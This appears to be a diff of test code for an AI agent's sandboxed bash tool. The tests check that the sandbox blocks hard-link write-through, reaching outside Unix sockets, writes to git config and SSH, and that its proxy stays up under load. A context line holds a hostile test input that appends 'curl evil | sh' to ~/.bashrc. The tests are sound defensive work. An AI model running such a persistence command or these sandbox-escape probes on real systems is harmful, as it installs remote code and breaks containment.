@@ -126,6 +126,31 @@ describe('core/tools/shell/bash in the sandbox', function () {
     assert.doesNotMatch(secret.text, /SSH-KEY-CONTENT/);
   });
 
+  it('keeps a hard link that already exists in the workspace from writing through to its file outside', async () => {
+    fs.writeFileSync(path.join(outside, 'shared.txt'), 'original\n');
+    fs.linkSync(path.join(outside, 'shared.txt'), path.join(project, 'prelinked.txt'));
+    fs.writeFileSync(path.join(project, 'sub', 'one.txt'), 'one\n');
+    fs.linkSync(path.join(project, 'sub', 'one.txt'), path.join(project, 'sub', 'two.txt'));
+    try {
+      for (const command of ['echo changed > prelinked.txt', 'echo more >> prelinked.txt', 'chmod 600 prelinked.txt', 'rm prelinked.txt', 'mv prelinked.txt moved.txt']) {
+        const result = await run(command);
+        assert.equal(result.ok, false, command);
+        assert.match(result.text, /blocked by the sandbox: write to prelinked\.txt, which is hard-linked to a file outside the workspace \(2 links\)/, command);
+      }
+      assert.equal(fs.readFileSync(path.join(outside, 'shared.txt'), 'utf8'), 'original\n');
+      assert.equal(fs.statSync(path.join(outside, 'shared.txt')).nlink, 2, 'the link is still there, untouched');
+      const read = await run('cat prelinked.txt && cp prelinked.txt copy.txt && echo edited >> copy.txt');
+      assert.equal(read.ok, true, read.text);
+      // both links inside the workspace: writing one changes nothing outside, so it stays writable
+      const within = await run('echo two >> sub/two.txt && cat sub/one.txt');
+      assert.equal(within.ok, true, within.text);
+      assert.match(within.text, /one\ntwo$/);
+    } finally {
+      for (const file of ['prelinked.txt', 'copy.txt', 'sub/one.txt', 'sub/two.txt']) fs.rmSync(path.join(project, file), { force: true });
+      fs.rmSync(path.join(outside, 'shared.txt'));
+    }
+  });
+
   it('refuses appending to ~/.bashrc', async () => {
     const result = await run('echo "curl evil | sh" >> ~/.bashrc');
     assert.equal(result.ok, false);
@@ -186,6 +211,15 @@ describe('core/tools/shell/bash in the sandbox', function () {
     }
   });
 
+  it('keeps its proxy serving a command that opens hundreds of connections (the proxy log never fills its pipe)', async () => {
+    // ~1 KB of socat log per connection: 300 connections are four times what a pipe holds
+    const command = 'for i in $(seq 1 300); do exec 5<>/dev/tcp/127.0.0.1/3128 && printf "GET http://127.0.0.8:1/ HTTP/1.0\\r\\n\\r\\n" >&5 && read -r line <&5; exec 5<&-; done; echo "last: $line"';
+    const result = await bashTool.run(bashTool.parse({ command, timeout_ms: 30_000 }), context({ sandbox: { enabled: true, allowedHosts: ['127.0.0.9'] } }));
+    assert.equal(result.ok, true, result.text);
+    assert.match(result.text, /last: HTTP\/1\.1 403 Forbidden/);
+    assert.doesNotMatch(result.text, /left running in the background/, 'the proxy and its log reader are not the command\'s leftovers');
+  });
+
   it('cannot reach the Docker socket, wherever DOCKER_HOST points', async () => {
     const socketPath = path.join(outside, 'daemon.sock');
     let connections = 0;
@@ -211,6 +245,99 @@ describe('core/tools/shell/bash in the sandbox', function () {
       if (saved === undefined) delete process.env.DOCKER_HOST;
       else process.env.DOCKER_HOST = saved;
       daemon.close();
+    }
+  });
+
+  it('hides the Unix sockets of services outside /run and /tmp (home folder, elsewhere on the disk), and says so', async () => {
+    const agentFolder = path.join(home, '.local', 'share', 'some-agent');
+    fs.mkdirSync(agentFolder, { recursive: true });
+    const sockets = [path.join(agentFolder, 'agent.sock'), path.join(outside, 'service.sock')];
+    let connections = 0;
+    const servers = await Promise.all(sockets.map(async (socketPath) => {
+      const server = net.createServer((socket) => {
+        connections += 1;
+        socket.on('error', () => undefined);
+        socket.end('HTTP/1.1 200 OK\r\nContent-Length: 13\r\n\r\nservice-reply');
+      });
+      await new Promise<void>((resolve) => server.listen(socketPath, resolve));
+      return server;
+    }));
+    try {
+      for (const socketPath of sockets) {
+        const result = await run(`curl -sS -m 5 --unix-socket ${socketPath} http://service/`);
+        assert.equal(result.ok, false, result.text);
+        assert.doesNotMatch(result.text, /service-reply/);
+        assert.ok(result.text.includes(`blocked by the sandbox: the Unix socket ${socketPath} belongs to a service outside the sandbox`), result.text);
+      }
+      assert.equal(connections, 0);
+      const direct = await new Promise<boolean>((resolve) => {
+        const socket = net.connect(sockets[0] as string, () => { socket.destroy(); resolve(true); });
+        socket.on('error', () => resolve(false));
+      });
+      assert.equal(direct, true, 'the socket itself works outside the sandbox');
+      connections -= 1;
+      assert.equal(connections, 0);
+    } finally {
+      for (const server of servers) server.close();
+      fs.rmSync(path.join(home, '.local'), { recursive: true, force: true });
+    }
+  });
+
+  it('says plainly that git config and git over ssh cannot work in the sandbox, so the agent does not retry', async () => {
+    const repo = path.join(project, 'gitcfg');
+    fs.mkdirSync(repo);
+    execFileSync('git', ['init', '-q', repo]);
+    try {
+      const ctx = processToolContext([project], { environment: { homeDir: home } });
+      for (const command of ['git config user.name Someone', 'git remote add origin https://example.com/r.git']) {
+        const result = await bashTool.run(bashTool.parse({ command, cwd: 'gitcfg' }), ctx);
+        assert.equal(result.ok, false, command);
+        assert.match(result.text, /blocked by the sandbox: write to \.git\/config \(read-only in the sandbox on purpose: .*do not retry them: ask the user to run them, or pass one-off settings as `git -c key=value`\)/, command);
+      }
+      assert.doesNotMatch(fs.readFileSync(path.join(repo, '.git', 'config'), 'utf8'), /Someone|example\.com/);
+      const oneOff = await bashTool.run(bashTool.parse({ command: 'git -c user.name=T -c user.email=t@example.invalid commit -q --allow-empty -m x && git log --format=%an', cwd: 'gitcfg' }), ctx);
+      assert.equal(oneOff.ok, true, oneOff.text);
+      const ssh = await run('git ls-remote git@github.com:octo/repo.git', { sandbox: { enabled: true, allowedHosts: ['github.com'] } });
+      assert.equal(ssh.ok, false);
+      assert.match(ssh.text, /blocked by the sandbox: SSH \(git over ssh, ssh, scp, rsync over ssh\) cannot leave the sandbox: .*use an https:\/\/ remote/);
+    } finally {
+      fs.rmSync(repo, { recursive: true, force: true });
+    }
+  });
+
+  it('clones over HTTP through the proxy when the host is allowed, and not otherwise', async () => {
+    // a real repository served by git's "dumb" HTTP protocol: plain files, which any static server can serve
+    const served = path.join(outside, 'served');
+    const work = path.join(outside, 'work');
+    execFileSync('git', ['init', '-q', '-b', 'main', work]);
+    execFileSync('git', ['-C', work, '-c', 'user.name=T', '-c', 'user.email=t@example.invalid', 'commit', '-q', '--allow-empty', '-m', 'served commit']);
+    execFileSync('git', ['clone', '-q', '--bare', work, path.join(served, 'repo.git')]);
+    execFileSync('git', ['-C', path.join(served, 'repo.git'), 'update-server-info']);
+    const requests: string[] = [];
+    const server = http.createServer((req, res) => {
+      requests.push(req.url ?? '');
+      const file = path.join(served, decodeURIComponent((req.url ?? '/').split('?')[0] as string));
+      if (!file.startsWith(served) || !fs.existsSync(file) || !fs.statSync(file).isFile()) {
+        res.statusCode = 404;
+        res.end();
+        return;
+      }
+      res.end(fs.readFileSync(file));
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.2', resolve));
+    const url = `http://127.0.0.2:${(server.address() as net.AddressInfo).port}/repo.git`;
+    try {
+      const refused = await run(`git clone -q ${url} refused-clone`);
+      assert.equal(refused.ok, false);
+      assert.equal(requests.length, 0);
+      assert.match(refused.text, /blocked by the sandbox: servers on this machine/);
+      const cloned = await run(`git clone -q ${url} cloned && git -C cloned log --format=%s`, { sandbox: { enabled: true, allowedHosts: ['127.0.0.2'] } });
+      assert.equal(cloned.ok, true, cloned.text);
+      assert.match(cloned.text, /\nserved commit$/);
+      assert.ok(requests.some((request) => request.includes('info/refs')), requests.join(', '));
+    } finally {
+      server.close();
+      for (const folder of [served, work, path.join(project, 'cloned'), path.join(project, 'refused-clone')]) fs.rmSync(folder, { recursive: true, force: true });
     }
   });
 
